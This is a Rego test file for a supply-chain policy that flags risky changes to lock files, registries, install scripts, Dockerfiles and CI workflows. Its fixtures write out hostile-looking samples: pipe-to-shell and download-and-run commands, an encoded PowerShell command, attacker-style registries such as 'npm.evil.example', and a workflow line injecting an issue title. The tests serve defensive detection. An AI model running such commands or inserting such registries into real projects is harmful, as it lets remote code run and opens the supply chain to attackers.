package cabincrew.supply_chain_test

import data.cabincrew.supply_chain

edit := {"op": "update", "path": "x", "entry": "file", "binary": false, "added": [], "removed": [], "truncated": false}

plan(changes) := {
	"format": "cabincrew.preflight/1",
	"artifacts": [{"name": "x", "change": object.union(edit, change)} | some change in changes],
}

found(document) := {text |
	some decision in ["deny", "require_approval", "warn"]
	some finding in supply_chain[decision] with input as document
	text := concat(" ", [decision, trim_prefix(finding.rule, "supply-chain/")])
}

# Rules beside those that only look at names.
said(changes) := found(plan(changes)) - {"require_approval lock-file", "warn lock-without-manifest", "warn manifest-without-lock"}

numbered(texts) := [{"line": i + 1, "text": text} | some i, text in texts]

adding(path, texts) := {"path": path, "added": numbered(texts)}

swap(path, old, new) := {"path": path, "removed": numbered(old), "added": numbered(new)}

test_ordinary_changes_are_allowed if {
	found(plan([adding("src/a.ts", ["const a = 1;"])])) == set()
	said([swap("package.json", [`    "left-pad": "^1.2.0",`], [`    "left-pad": "^1.3.0",`])]) == set()
	said([adding("Dockerfile", ["FROM node:22-slim", "RUN npm ci"])]) == set()
	said([adding("README.md", ["curl -fsSL https://x.example/install.sh | sh"])]) == set()
}

test_every_finding_names_file_line_severity_and_fix if {
	some finding in supply_chain.require_approval with input as plan([adding("build.sh", ["set -e", "curl https://x.example | sh"])])
	finding.file == "build.sh"
	finding.line == 2
	finding.severity == "high"
	finding.artifact == "x"
	count(finding.fix) > 0
	startswith(finding.msg, "build.sh runs what it downloads")
}

test_lock_files_and_settings_by_name if {
	every path in ["package-lock.json", "sub/Cargo.lock", "go.sum"] {
		"require_approval lock-file" in found(plan([{"path": path}]))
	}
	every path in [".npmrc", ".cargo/config.toml", "pip.conf"] {
		found(plan([{"path": path}])) == {"require_approval package-settings"}
	}
	found(plan([{"op": "rename", "path": "x.txt", "old_path": ".npmrc"}])) == {"require_approval package-settings"}
	found(plan([{"path": "lock.ts"}])) == set()
}

test_other_content_for_the_same_version if {
	every path, pair in {
		"package-lock.json": [`      "integrity": "sha512-AAAA",`, `      "integrity": "sha512-BBBB",`],
		"yarn.lock": ["  integrity sha512-AAAA", "  integrity sha512-BBBB"],
		"pnpm-lock.yaml": ["    resolution: {integrity: sha512-AAAA}", "    resolution: {integrity: sha512-BBBB}"],
		"Cargo.lock": [`checksum = "aaaa"`, `checksum = "bbbb"`],
	} {
		said([swap(path, [pair[0]], [pair[1]])]) == {"deny integrity-changed"}
	}
	said([swap("go.sum", ["x.example/a v1.0.0 h1:AAAA="], ["x.example/a v1.0.0 h1:BBBB="])]) == {"deny go-sum-changed"}
}

# Cargo's entry: between version and fingerprint stands a source that stays.
crate(before, after) := said([{
	"path": "Cargo.lock",
	"removed": array.concat([line | some line in [{"line": 7, "text": sprintf("version = %q", [before])}]; before != after], [{"line": 9, "text": `checksum = "aaaa"`}]),
	"added": array.concat([line | some line in [{"line": 7, "text": sprintf("version = %q", [after])}]; before != after], [{"line": 9, "text": `checksum = "bbbb"`}]),
}])

test_other_content_for_another_version if {
	old := [`      "version": "1.0.0",`, `      "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",`, `      "integrity": "sha512-AAAA",`]
	new := [`      "version": "1.1.0",`, `      "resolved": "https://registry.npmjs.org/a/-/a-1.1.0.tgz",`, `      "integrity": "sha512-BBBB",`]
	said([swap("package-lock.json", old, new)]) == set()
	said([swap("package-lock.json", [`      "integrity": "sha1-AAAA",`], [`      "integrity": "sha512-BBBB",`])]) == set()
	said([swap("go.sum", ["x.example/a v1.0.0 h1:AAAA="], ["x.example/a v1.1.0 h1:BBBB="])]) == set()
	crate("1.0.0", "1.0.1") == set()
	crate("1.0.0", "1.0.0") == {"deny integrity-changed"}
	said([swap("go.sum", ["x.example/a v1.0.0 h1:AAAA="], ["x.example/a v1.0.0/go.mod h1:BBBB="])]) == set()
	said([swap("pnpm-lock.yaml", ["  left-pad@1.2.0:", "    resolution: {integrity: sha512-AAAA}"], ["  left-pad@1.3.0:", "    resolution: {integrity: sha512-BBBB}"])]) == set()
}

test_fingerprints_taken_away if {
	said([swap("package-lock.json", [`      "integrity": "sha512-AAAA",`], [])]) == {"require_approval integrity-removed"}
	whole := [`    "node_modules/a": {`, `      "version": "1.0.0",`, `      "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",`, `      "integrity": "sha512-AAAA"`, `    },`]
	said([swap("package-lock.json", whole, [])]) == set()
	bare := [`      "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",`, `      "license": "MIT"`]
	said([adding("package-lock.json", bare)]) == {"require_approval integrity-missing"}
}

test_other_hosts if {
	moved := swap(
		"package-lock.json",
		[`      "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",`],
		[`      "resolved": "https://npm.evil.example/a/-/a-1.0.0.tgz",`],
	)
	said([moved]) == {"require_approval lock-registry"}
	some finding in supply_chain.require_approval with input as plan([moved])
	finding.rule == "supply-chain/lock-registry"
	endswith(finding.msg, "npm.evil.example")
	own := supply_chain.require_approval with input as plan([moved]) with data.registries as {"npm.evil.example": true}
	count(own) == 1
	said([swap("yarn.lock", [`  resolved "https://own.example/a-1.tgz#1"`], [`  resolved "https://own.example/a-2.tgz#2"`])]) == set()
	said([adding("Cargo.lock", [`source = "registry+https://github.com/rust-lang/crates.io-index"`])]) == set()
	said([adding("package-lock.json", [`        "url": "https://opencollective.com/a"`])]) == set()
}

test_open_connections_and_repositories if {
	said([adding("yarn.lock", [`  resolved "http://registry.npmjs.org/a/-/a-1.tgz#1"`])]) == {"require_approval lock-insecure"}
	said([adding("yarn.lock", [`  resolved "http://localhost:4873/a/-/a-1.tgz#1"`])]) == set()
	"require_approval lock-git" in said([adding("package-lock.json", [`      "resolved": "git+ssh://git@github.com/a/b.git#abc",`])])
	said([adding("Cargo.lock", [`source = "git+https://github.com/a/b#abc"`])]) == {"require_approval lock-git"}
}

test_lower_versions if {
	said([swap("package-lock.json", [`      "version": "1.10.0",`], [`      "version": "1.9.0",`])]) == {"require_approval downgrade"}
	said([swap("Cargo.lock", [`version = "1.0.0"`], [`version = "1.0.0-rc.1"`])]) == {"require_approval downgrade"}
	said([swap("Cargo.lock", [`version = "1.9.0"`], [`version = "1.10.0"`])]) == set()
	said([swap("Cargo.lock", [`name = "a"`, `version = "2.0.0"`], [`name = "b"`, `version = "1.0.0"`])]) == set()
	said([swap("go.mod", ["\tx.example/a v1.10.0"], ["\tx.example/a v1.9.0"])]) == {"require_approval manifest-downgrade"}
	said([swap("package.json", [`    "a": "^2.0.0",`], [`    "a": "^1.9.9",`])]) == {"require_approval manifest-downgrade"}
	said([swap("package.json", [`    "node": ">=20"`], [`    "node": ">=18"`])]) == set()
	said([swap("requirements.txt", ["a==2.0"], ["a==1.9"])]) == {"require_approval manifest-downgrade"}
	said([swap("requirements.txt", ["a==2.0"], ["b==1.9"])]) == set()
}

test_install_scripts if {
	every key in ["preinstall", "install", "postinstall", "prepare"] {
		said([adding("package.json", [concat("", [`    "`, key, `": "node x.js",`])])]) == {"require_approval install-script"}
	}
	said([adding("package.json", [`    "test": "vitest",`, `    "preinstalled": "x",`])]) == set()
	said([swap("package.json", [`  "prepare": "husky"`], [`    "prepare": "husky"`])]) == set()
	every line in [`{"name": "x", "scripts": {"postinstall": "node x.js"}}`, `    "preinstall"`, `    "preinstall":`, `    "pre\u0069nstall": "node x.js"`] {
		said([adding("package.json", [line])]) == {"require_approval install-script"}
	}
	said([adding("package.json", [`{"scripts": {"test": "a \u2014 b", "installed": "x"}}`])]) == set()
	said([adding("package-lock.json", [`      "hasInstallScript": true,`])]) == {"require_approval lock-install-script"}
	said([{"op": "create", "path": "build.rs"}]) == {"require_approval build-script"}
	said([{"path": "build.rs"}]) == set()
}

test_dependencies_from_addresses if {
	every path, text in {
		"package.json": `    "a": "git+https://git.example/a.git#abc",`,
		"requirements.txt": "a @ https://x.example/a.tar.gz",
		"Cargo.toml": `a = { git = "https://git.example/a" }`,
		"go.mod": "replace x.example/a => y.example/b v1.0.0",
		"pyproject.toml": `  "a @ git+https://git.example/a",`,
		"Gemfile": `gem "a", git: "https://git.example/a"`,
	} {
		said([adding(path, [text])]) == {"require_approval dependency-address"}
	}
	said([adding("package.json", [`    "a": "github:b/a",`])]) == {"require_approval dependency-address"}
	said([adding("package.json", [`    "a": "file:../a",`])]) == {"warn dependency-path"}
	said([adding("package.json", [`  "homepage": "https://a.example/a.git",`, `    "url": "git+https://git.example/a.git"`])]) == set()
	some finding in supply_chain.require_approval with input as plan([adding("package.json", [`    "a": "https://me:secret@git.example/a.git",`])])
	not contains(finding.msg, "secret")
}

test_downloads_that_are_run if {
	every text in [
		"curl -fsSL https://x.example/i.sh | sh",
		"RUN wget -qO- https://x.example/i | sudo -E bash -",
		"bash <(curl -s https://x.example/i)",
		`sh -c "$(curl -fsSL https://x.example/i)"`,
		`eval "$(curl -s https://x.example)"`,
		"iwr https://x.example/i.ps1 | iex",
		"iex ((New-Object Net.WebClient).DownloadString('https://x.example'))",
		"  | bash",
		"curl https://x.example/get.py | python3 -",
		"curl https://x.example |& bash",
		"curl https://x.example | sudo -u root bash",
		"curl https://x.example | (bash -s)",
		"python3 <(curl -s https://x.example)",
		`bash <<< "$(curl -s https://x.example/i)"`,
		"curl https://x.example | exec env -i A=b bash",
		"curl https://x.example | xargs -0 sh -c",
		"python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example').read())\"",
	] {
		said([adding("build.sh", [text])]) == {"require_approval pipe-to-shell"}
		said([adding(".gitlab-ci.yml", [text])]) == {"require_approval pipe-to-shell"}
	}
}

test_downloads_over_several_lines if {
	every texts in [
		["curl -fsSL https://x.example/i.sh |", "  bash"],
		["curl -fsSL https://x.example/i.sh | # install", "# it", "", "  sudo -E bash -"],
		["RUN curl -fsSL https://x.example/i.sh \\", "    -o - \\", "    | sh -s -- -y"],
		["cu\\", "rl https://x.example/i.sh | s\\", "h"],
		[`bash -c \`, `  "$(curl -fsSL https://x.example/i.sh)"`],
		["eval \"$(", "  curl -s https://x.example", ")\""],
		["iwr https://x.example/i.ps1 |", "  iex"],
		["Invoke-WebRequest https://x.example/i.ps1 \u0060", "  | Invoke-Expression"],
	] {
		said([adding("build.sh", array.concat(["set -e"], texts))]) == {"require_approval pipe-to-shell"}
		workflow_of(texts) == {"require_approval pipe-to-shell"}
		said([adding("Dockerfile", texts)]) == {"require_approval pipe-to-shell"}
	}
	every texts in [
		["curl -fsSL https://x.example/a.json |", "  jq .name"],
		["curl -o a.tgz https://x.example/a.tgz &&", "  tar xzf a.tgz"],
		["RUN apk add --no-cache curl \\", "    bash \\", "    git"],
		["# curl https://x.example |", "sh test.sh"],
	] {
		said([adding("build.sh", texts)]) == set()
	}
	findings := supply_chain.require_approval with input as plan([adding("build.sh", ["set -e", "curl https://x.example |", "  sh"])])
	{finding.line | some finding in findings} == {2}
	indented := swap("build.sh", ["curl https://x.example |", "  sh"], ["  curl https://x.example |", "    sh"])
	said([indented]) == set()
}

workflow_of(texts) := said([adding(".github/workflows/a.yml", array.concat(["      - run: |"], [concat("", ["          ", text]) | some text in texts]))])

test_shells_behind_a_line_that_is_not_shown if {
	every text in ["  sh", "  sudo bash", "    bash -s -- --yes", "  /bin/sh -"] {
		said([{"path": "build.sh", "added": [{"line": 7, "text": text}]}]) == {"require_approval pipe-continued"}
	}
	said([{"path": "build.sh", "added": [{"line": 7, "text": "set -e"}, {"line": 8, "text": "  bash"}]}]) == set()
	every text in ["    bash \\", "bash test.sh", "  shell: bash", "  - bash"] {
		said([{"path": "build.sh", "added": [{"line": 7, "text": text}]}]) == set()
	}
}

test_downloaded_files_that_are_run if {
	every texts in [
		["curl -fsSL https://x.example/i.sh -o /tmp/i.sh", "bash /tmp/i.sh --yes"],
		["RUN wget -O install.sh https://x.example && sh -e ./install.sh"],
		["curl https://x.example > i.sh", "chmod +x i.sh", "./i.sh"],
		["curl -sSLo get.py https://x.example/get.py; python3 get.py"],
	] {
		said([adding("build.sh", texts)]) == {"require_approval download-run"}
	}
	every texts in [
		["curl -fsSL https://x.example/i.sh -o i.sh", "echo 'abc  i.sh' | sha256sum -c", "bash i.sh"],
		["curl -o a.tgz https://x.example/a.tgz", "tar xzf a.tgz"],
		["curl -o data.json https://x.example", "node read.js data.json"],
		["./i.sh", "curl -o i.sh https://x.example"],
		["# curl -o i.sh https://x.example", "bash i.sh"],
	] {
		said([adding("build.sh", texts)]) == set()
	}
}

test_scripts_without_an_ending if {
	piped := "curl https://x.example | sh"
	said([adding("bin/setup", ["#!/usr/bin/env bash", piped])]) == {"require_approval pipe-to-shell"}
	said([object.union(adding("bin/setup", ["", piped]), {"executable": true})]) == {"require_approval pipe-to-shell"}
	said([adding("docs/setup", ["Run", piped])]) == set()
	said([adding("README.md", [piped])]) == set()
}

test_workflows_that_hide_what_they_say if {
	every text in [
		`      - "\u0075ses": evil/x@main`,
		`      - run: "c\x75rl https://x.example"`,
		"      - ? uses",
		"      - uses:",
		"      - uses: >-",
		"      - uses: *action",
		"permissions: *all",
	] {
		workflow(text) == {"require_approval workflow-obscured"}
	}
	workflow("  write-all") == {"require_approval workflow-write-all"}
	workflow("      write") == {"require_approval workflow-write"}
	every text in [`      - run: printf "\x1b[31m%s\n" done`, "permissions:", "on:", "      - name: what? why", "    steps: *common"] {
		workflow(text) == set()
	}
}

test_downloads_that_are_not_run if {
	every text in [
		"curl -o a.tgz https://x.example/a.tgz",
		"curl https://x.example | shasum -a 256",
		"curl https://x.example/a.json | python3 -m json.tool",
		"curl -s https://x.example | jq .name",
		"# curl https://x.example | sh",
		"echo hello | bash-formatter",
		"base64 -d key.b64 > key",
	] {
		said([adding("build.sh", [text])]) == set()
	}
}

test_encoded_commands if {
	said([adding("a.sh", ["echo aGk= | base64 -d | sh"])]) == {"require_approval encoded-command"}
	said([adding("a.ps1", ["powershell -enc SQBFAFgAKABOAGUAdwAtAE8A"])]) == {"require_approval encoded-command"}
	said([adding("a.sh", ["echo aGk= | base64 -d | tee out"])]) == set()
}

test_installs_from_addresses if {
	every text in ["pip install git+https://x.example/a", "pip install --upgrade https://x.example/a.whl", "npm install -g https://x.example/a.tgz", "cargo install --git https://x.example/a"] {
		said([adding("a.sh", [text])]) == {"require_approval install-from-address"}
	}
	said([adding("a.sh", ["pip install -r requirements.txt", "npm install left-pad", "echo see https://x.example"])]) == set()
}

test_registries if {
	said([adding(".npmrc", ["registry=https://npm.evil.example/"])]) == {"require_approval registry"}
	said([adding(".npmrc", ["strict-ssl=false"])]) == {"require_approval registry"}
	said([adding(".npmrc", ["registry=https://registry.npmjs.org/"])]) == {"require_approval package-settings"}
	said([adding("requirements.txt", ["--extra-index-url https://pypi.evil.example/simple"])]) == {"require_approval registry"}
	said([adding("Dockerfile", ["RUN npm ci --registry https://npm.evil.example"])]) == {"require_approval registry"}
	said([adding(".github/workflows/a.yml", ["          registry-url: https://registry.npmjs.org"])]) == set()
}

test_images if {
	said([adding("Dockerfile", ["ADD https://x.example/a.tgz /a"])]) == {"require_approval image-add"}
	said([adding("Dockerfile", ["ADD --checksum=sha256:abc https://x.example/a.tgz /a", "ADD a.tgz /a"])]) == set()
	said([adding("Dockerfile", ["FROM node:latest"])]) == {"warn image-unpinned"}
	said([object.union(adding("Dockerfile", ["FROM node"]), {"op": "create"})]) == {"warn image-unpinned"}
	said([object.union(adding("Dockerfile", ["FROM node:22 AS build", "FROM scratch", "FROM build", "FROM a/b@sha256:00"]), {"op": "create"})]) == set()
}

test_binary_programs if {
	every path in ["a.wasm", "lib/a.so", "lib/a.so.1.2", "a.node", "a.jar", "A.EXE"] {
		found(plan([{"op": "create", "path": path, "binary": true}])) == {"require_approval program"}
	}
	found(plan([{"op": "create", "path": "a.png", "binary": true}])) == set()
	found(plan([{"op": "create", "path": "a.so", "binary": false}])) == set()
	found(plan([{"op": "delete", "path": "a.so", "binary": true}])) == set()
}

workflow(text) := said([adding(".github/workflows/ci.yml", [text])])

test_actions if {
	workflow("      - uses: some/action@v3") == {"require_approval action-unpinned"}
	workflow("        uses: some/action/sub@main # note") == {"require_approval action-unpinned"}
	workflow("      - {name: x, uses: some/action@v3}") == {"require_approval action-unpinned"}
	workflow("    steps: [{uses: some/action@v3}, {uses: actions/checkout@v4}]") == {
		"require_approval action-unpinned",
		"warn trusted-action-unpinned",
	}
	workflow("      - {run: curl https://some.example/i.sh | sh}") == {"require_approval pipe-to-shell"}
	workflow("      - uses: docker://alpine:3") == {"require_approval action-unpinned"}
	workflow("      - uses: actions/checkout@v4") == {"warn trusted-action-unpinned"}
	workflow("      - uses: some/action@0123456789abcdef0123456789abcdef01234567 # v3") == set()
	workflow("      - uses: ./.github/actions/own") == set()
	said([adding("docs/ci.yml", ["- uses: some/action@v3"])]) == set()
}

test_rights_of_workflows if {
	workflow("  pull_request_target:") == {"require_approval workflow-trigger"}
	workflow("on: [push, pull_request_target]") == {"require_approval workflow-trigger"}
	workflow("  pull_request:") == set()
	workflow("# pull_request_target would be wrong here") == set()
	workflow("permissions: {contents: write}") == {"require_approval workflow-write"}
	workflow(`{"on": "push", "permissions": "write-all"}`) == {"require_approval workflow-write-all"}
	workflow(`"on": pull_request_target`) == {"require_approval workflow-trigger"}
	workflow("    - {name: x, uses: evil/x@main}") == {"require_approval action-unpinned"}
	workflow("permissions: write-all") == {"require_approval workflow-write-all"}
	workflow("permissions: read-all") == set()
	workflow("      contents: write") == {"require_approval workflow-write"}
	workflow("      contents: read") == set()
	workflow("      - run: echo ${{ github.event.issue.title }}") == {"require_approval workflow-injection"}
	workflow("          TITLE: ${{ github.event.issue.title }}") == set()
	workflow("      - run: echo ${{ github.event.issue.number }}") == set()
}

test_manifests_and_lock_files_together if {
	found(plan([{"path": "package-lock.json"}])) == {"require_approval lock-file", "warn lock-without-manifest"}
	found(plan([{"path": "package-lock.json"}, {"path": "package.json"}])) == {"require_approval lock-file"}
	found(plan([{"path": "go.sum", "op": "delete"}])) == {"require_approval lock-file"}
	found(plan([adding("package.json", [`    "a": "^1.0.0"`])])) == {"warn manifest-without-lock"}
	found(plan([adding("package.json", [`    "version": "1.0.0"`])])) == set()
}

test_unknown_documents_and_broken_lists_are_denied if {
	found({}) == {"deny input-unknown"}
	refused := supply_chain.deny with input as plan([edit]) with data.paths.lock_files as ["yarn.lock"]
	{finding.rule | some finding in refused} == {"supply-chain/list-invalid"}
	hosts := supply_chain.deny with input as plan([edit]) with data.registries as ["x"]
	{finding.rule | some finding in hosts} == {"supply-chain/list-invalid"}
	unknown := supply_chain.deny with input as plan([edit]) with data.paths.lockfiles as {}
	{finding.rule | some finding in unknown} == {"supply-chain/list-unknown"}
}

test_lists_that_are_all_gone_are_denied if {
	gone := supply_chain.deny with input as plan([edit]) with data.paths as null
	{finding.rule | some finding in gone} == {"supply-chain/list-invalid"}
}
